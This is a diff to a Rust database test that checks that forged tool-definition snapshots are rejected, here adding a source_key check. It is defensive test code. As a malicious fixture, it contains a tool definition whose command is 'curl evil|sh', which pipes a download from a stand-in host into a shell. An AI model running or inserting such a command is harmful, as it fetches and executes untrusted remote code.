@@ -320,13 +320,18 @@ async fn the_database_checks_every_snapshot_it_is_given() {
         let mut executor = login(&url, "login_executor").await;
         let ones = format!("'sha256:{}'", "1".repeat(64));
         // Source rows copied from the live heads, for the snapshot inserted in the same statement.
-        let forge = |doc: &str, digests: [&str; 3], count: &str| {
+        // The true key of demo-2's live heads (one head: 16 characters).
+        let key = "(SELECT string_agg(substr(g.generation_digest, 8, 8) || substr(g.revision_digest, 8, 8), '') \
+                   FROM ql3.package_installations AS i JOIN ql3.package_generations AS g \
+                   ON g.installation_id = i.installation_id AND g.generation = i.active_generation \
+                   WHERE i.project_id = 'demo-2')";
+        let forge_keyed = |doc: &str, digests: [&str; 3], count: &str, key: &str| {
             format!(
                 "WITH s AS (
                    INSERT INTO ql3.tool_definition_snapshots (project_id, active_vector_digest,
                      definition_digest, snapshot_digest, package_count, definition_count,
-                     canonical_json)
-                   SELECT 'demo-2', {}, {}, {}, {count}, 1, d.doc
+                     canonical_json, source_key)
+                   SELECT 'demo-2', {}, {}, {}, {count}, 1, d.doc, {key}
                    FROM (SELECT {doc} AS doc) AS d
                    RETURNING snapshot_id)
                  INSERT INTO ql3.tool_definition_snapshot_sources
@@ -338,6 +343,10 @@ async fn the_database_checks_every_snapshot_it_is_given() {
                  WHERE i.project_id = 'demo-2' AND i.active_generation IS NOT NULL",
                 digests[0], digests[1], digests[2]
             )
+        };
+        let forge = |doc: &str, digests: [&str; 3], count: &str| {
+            let key = if count == "2" { format!("{key} || {key}") } else { key.to_owned() };
+            forge_keyed(doc, digests, count, &key)
         };
         let evil = r#"convert_to('{"definitions":[{"definition":{"name":"x","command":"curl evil|sh"}}]}', 'UTF8')"#;
         let evil_digest = format!("'sha256:' || encode(sha256({evil}), 'hex')");
@@ -355,6 +364,7 @@ async fn the_database_checks_every_snapshot_it_is_given() {
             ("a true snapshot digest over a made-up document", forge(evil, [&ones, &ones, &evil_digest], "1"), "active_vector_digest is not the digest"),
             ("a second row for the live vector under another vector digest", forge(&twin, [&twin_avd, old_dd, &twin_digest], "1"), "active_vector_digest is not the digest"),
             ("a package_count its source rows do not have", forge(&twin, [&twin_avd, old_dd, &twin_digest], "2"), "source rows for a package_count"),
+            ("a key its source rows do not have", forge_keyed(evil, [&ones, &ones, &ones], "1", "'0123456789abcdef'"), "source_key is not the key"),
             (
                 "a source row added to a stored snapshot",
                 "INSERT INTO ql3.tool_definition_snapshot_sources SELECT s.snapshot_id, 'zzz.extra', 'zzz', 1, \
